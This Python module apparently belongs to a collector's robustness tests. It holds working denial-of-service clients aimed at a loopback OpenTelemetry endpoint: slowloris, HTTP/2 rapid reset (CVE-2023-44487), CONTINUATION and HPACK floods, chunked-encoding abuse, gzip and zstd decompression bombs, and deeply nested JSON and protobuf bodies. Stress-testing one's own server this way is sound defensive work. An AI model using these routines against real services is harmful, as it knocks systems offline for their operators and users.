# SPDX-License-Identifier: Apache-2.0
"""Hostile clients: each is a function that works on a port of loopback until it is told to stop. They hold what they open
until then."""

import contextlib
import gzip
import io
import json
import select
import socket
import struct
import time

import hpack
import zstandard

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
METHOD = "/opentelemetry.proto.collector.trace.v1.TraceService/Export"
MIB = 1 << 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def setting(number, value):
    return struct.pack(">HI", number, value)


def call_headers(**more):
    """A gRPC call's header block, without the dynamic table, so that any connection may use it."""
    block = [
        (":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", "x"), ("te", "trailers"),
        ("content-type", "application/grpc"), *more.items(),
    ]  # fmt: skip
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return encoder.encode([hpack.NeverIndexedHeaderTuple(*pair) for pair in block], huffman=False)


class Attacker:
    """Connections of one attack. A closed or full connection is what an attacker may expect."""

    def __init__(self, port, stop):
        self.port, self.stop = port, stop
        self.open = []
        self.refused = 0  # connections that the other side closed or did not take
        self.sent = 0

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for connection in self.open:
            connection.close()

    def connect(self, first=b""):
        """A new connection, or None."""
        connection = socket.socket()
        connection.settimeout(2)
        try:
            connection.connect(("127.0.0.1", self.port))
            connection.setblocking(False)
            self.open.append(connection)
        except OSError:
            self.refused += 1
            connection.close()
            return None
        return connection if not first or self.send(connection, first) else None

    def send(self, connection, data):
        """All of it, unless the attack is over or the other side does not want it. Never reads."""
        view = memoryview(data)
        while view and not self.stop.is_set():
            try:
                sent = connection.send(view)
                self.sent += sent
                view = view[sent:]
            except BlockingIOError:
                select.select([], [connection], [], 0.05)
            except OSError:
                self.refused += 1
                with contextlib.suppress(ValueError):
                    self.open.remove(connection)
                connection.close()
                return False
        return not self.stop.is_set()

    def again(self, first, piece, connections=4):
        """Sends `piece` for ever on each of some connections in turn, and makes new ones for those that are closed."""
        held = [None] * connections
        while not self.stop.is_set():
            for n in range(connections):
                if held[n] is None:
                    held[n] = self.connect(first)
                if held[n] is not None and not self.send(held[n], piece):
                    held[n] = None
            if not any(held):
                self.stop.wait(0.01)


# ---- slow and idle


def slowloris(a):
    """Many requests whose headers never end, a byte at a time."""
    held = [a.connect(b"POST /v1/traces HTTP/1.1\r\nHost: x\r\nX-a: ") for _ in range(500)]
    while a.stop.wait(0.05) is False:
        held = [c for c in held if c and a.send(c, b"b")]


def slow_bodies(a):
    """Bodies of 20 MiB that are announced and hardly begun."""
    head = b"POST /v1/traces HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-protobuf\r\nContent-Length: 20000000\r\n\r\n\n"
    held = [a.connect(head) for _ in range(200)]
    while a.stop.wait(0.05) is False:
        held = [c for c in held if c and a.send(c, b"\n")]


def promises(a):
    """As much as the budget has, by promises: each half as large as the one before."""
    head = b"POST /v1/traces HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-protobuf\r\nContent-Length: %d\r\n\r\n\n"
    for size in [20_000_000] * 8 + [20_000_000 >> n for n in range(1, 14)] * 8:
        a.connect(head % size)
    a.stop.wait()


def slow_messages(a):
    """The same over gRPC: streams with the prefix of a message of 4 MiB and nothing behind it."""
    opening = PREFACE + frame(SETTINGS, 0, 0)
    block = call_headers()
    for stream in range(1, 200, 2):
        opening += frame(HEADERS, END_HEADERS, stream, block)
        opening += frame(DATA, 0, stream, b"\0" + struct.pack(">I", 4 * MIB - 100) + b"\n")
    for _ in range(5):
        a.connect(opening)
    a.stop.wait()


def idle(a):
    """More connections than a port takes, which say nothing."""
    for _ in range(1500):
        a.connect()
        if a.stop.is_set():
            return
    a.stop.wait()


def idle_http2(a):
    """The same, with the opening of HTTP/2."""
    for _ in range(1500):
        a.connect(PREFACE + frame(SETTINGS, 0, 0))
        if a.stop.is_set():
            return
    a.stop.wait()


def connect_and_go(a):
    """Connections that end as soon as they are made."""
    while not a.stop.is_set():
        if connection := a.connect(b"P"):
            a.open.remove(connection)
            connection.close()


# ---- HTTP/2


def rapid_reset(a):
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    block = call_headers()
    for_ever = b"".join(
        frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        for stream in range(1, 20001, 2)
    )
    a.again(PREFACE + frame(SETTINGS, 0, 0), for_ever)


def continuation(a):
    """Header blocks that never end."""
    first = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, call_headers())
    a.again(first, frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x81\x7f" + b"b" * 16000) * 16)


def empty_continuation(a):
    first = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, call_headers())
    a.again(first, frame(CONTINUATION, 0, 1) * 4096)


def settings(a):
    """SETTINGS whose acknowledgements nobody reads."""
    a.again(PREFACE, frame(SETTINGS, 0, 0, setting(3, 100) * 10) * 1000)


def pings(a):
    a.again(PREFACE + frame(SETTINGS, 0, 0), frame(PING, 0, 0, b"12345678") * 2000)


def window_updates(a):
    a.again(PREFACE + frame(SETTINGS, 0, 0), frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 2000)


def empty_data(a):
    first = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, call_headers())
    a.again(first, frame(DATA, 0, 1) * 2000)


def hpack_bomb(a):
    """A large entry in the dynamic table, referred to again and again."""
    bomb = call_headers() + b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000  # x-like header, indexed: 62
    block = bomb + b"\xbe" * 12000
    opening = PREFACE + frame(SETTINGS, 0, 0)
    a.again(opening, b"".join(frame(HEADERS, END_HEADERS, s, block[:16384]) for s in range(1, 200, 2)))


def never_reads_http2(a):
    """Requests whose answers find a window of 0, from a client that never reads."""
    block = call_headers()
    opening = PREFACE + frame(SETTINGS, 0, 0, setting(4, 0))
    call = b"".join(
        frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, b"\0\0\0\0\0") for s in range(1, 4001, 2)
    )
    a.again(opening, call)


# ---- HTTP/1.1


def endless_header(a):
    a.again(b"POST /v1/traces HTTP/1.1\r\nX: ", b"a" * 65536)


def many_headers(a):
    a.again(b"POST /v1/traces HTTP/1.1\r\n", b"".join(b"x%d: y\r\n" % n for n in range(5000)))


def endless_line(a):
    a.again(b"POST /", b"a" * 65536)


HEAD = b"POST /v1/traces HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-protobuf\r\n"


def endless_chunks(a):
    """A body in chunks that never ends, and never repeats a record: padding of unknown fields."""
    a.again(HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"10000\r\n" + b"a" * 65536 + b"\r\n")


def tiny_chunks(a):
    a.again(HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\na\r\n" * 10000)


def huge_chunk(a):
    a.again(HEAD + b"Transfer-Encoding: chunked\r\n\r\n7fffffffffffffff\r\n", b"a" * 65536)


def endless_chunk_extension(a):
    a.again(HEAD + b"Transfer-Encoding: chunked\r\n\r\n1;", b"a" * 65536)


def never_reads_http1(a):
    """Pipelined requests whose answers nobody reads."""
    a.again(b"", (HEAD + b"Content-Length: 0\r\n\r\n") * 1000)


# ---- bodies


def posts(body, **headers):
    """An attack that posts a body again and again."""
    kind = headers.pop("kind", "application/x-protobuf")
    lines = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in headers.items())
    head = f"POST /v1/traces HTTP/1.1\r\nHost: x\r\nContent-Type: {kind}\r\n{lines}Content-Length: {len(body)}\r\n\r\n"
    whole = head.encode() + body

    def attack(a):
        held = [None] * 4
        while not a.stop.is_set():
            for n in range(4):
                held[n] = held[n] or a.connect()
                if held[n] is None or not a.send(held[n], whole):
                    held[n] = None
                    continue
            for connection in filter(None, held):
                if select.select([connection], [], [], 1)[0]:
                    with contextlib.suppress(OSError):
                        connection.recv(65536)

    return attack


def _zeros(make, size):
    """`size` zero bytes, compressed piece by piece."""
    out = io.BytesIO()
    with make(out) as stream:
        for _ in range(size // MIB):
            stream.write(bytes(MIB))
    return out.getvalue()


def gzip_bomb():
    return posts(_zeros(lambda out: gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9), 64 * MIB), content_encoding="gzip")


def zstd_bomb():
    make = lambda out: zstandard.ZstdCompressor(level=3).stream_writer(out, closefd=False)
    return posts(_zeros(make, 256 * MIB), content_encoding="zstd")


def zstd_window():
    """A frame that asks for a window of 2 GiB."""
    parameters = zstandard.ZstdCompressionParameters(window_log=31, compression_level=1)
    return posts(zstandard.ZstdCompressor(compression_params=parameters).compressobj().compress(b"a") + b"(\xb5/\xfd\x00\xa8" + bytes(64),
                 content_encoding="zstd")  # fmt: skip


def zeros_in_grpc():
    """A gRPC message of 32 KiB that is 32 MiB."""
    body = gzip.compress(bytes(32 * MIB))
    block = call_headers(**{"grpc-encoding": "gzip"})
    message = b"\1" + struct.pack(">I", len(body)) + body

    def attack(a):
        calls = b""
        for stream in range(1, 40, 2):
            calls += frame(HEADERS, END_HEADERS, stream, block)
            pieces = [message[n : n + 16384] for n in range(0, len(message), 16384)]
            for n, piece in enumerate(pieces):
                calls += frame(DATA, END_STREAM if n + 1 == len(pieces) else 0, stream, piece)
        while not a.stop.is_set():
            if connection := a.connect(PREFACE + frame(SETTINGS, 0, 0) + calls):
                time.sleep(0.02)
                a.open.remove(connection)
                connection.close()

    return attack


def deep_json():
    value = '{"arrayValue":{"values":[' * 100_000
    return posts(f'{{"resourceSpans":[{{"resource":{{"attributes":[{{"key":"a","value":{value}'.encode(), kind="application/json")


def deep_unknown_json():
    return posts(b'{"nobody":' + b"[" * 2_000_000, kind="application/json")


def long_json():
    """Millions of empty records."""
    return posts(json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [{}] * 300_000}]}]}).encode(), kind="application/json")


def _length(size):
    out = b""
    while size > 127:
        out += bytes([size & 127 | 128])
        size >>= 7
    return out + bytes([size])


def deep_protobuf():
    """Values nested in values: AnyValue.array_value.values."""
    body, depth = b"", 0
    while len(body) < 2 * MIB and depth < 20000:
        body = b"\x0a" + _length(len(body)) + body  # ArrayValue.values
        body = b"\x2a" + _length(len(body)) + body  # AnyValue.array_value
        depth += 1
    for tag in (b"\x12", b"\x0a", b"\x0a", b"\x0a"):  # KeyValue.value, Resource.attributes, resource, resource_spans
        body = tag + _length(len(body)) + body
    return posts(body)


def huge_varints():
    return posts(b"\x0a" + b"\xff" * 9 + b"\x01" + b"a" * 1000)


def endless_varint():
    return posts(b"\x0a" + b"\x80" * MIB)


def empty_records():
    """Many records in few bytes: 2 million spans of 2 bytes each."""
    spans = b"\x12\x00" * (2 * MIB)
    scope = b"\x12" + _length(len(spans)) + spans
    return posts(b"\x0a" + _length(len(scope)) + scope)
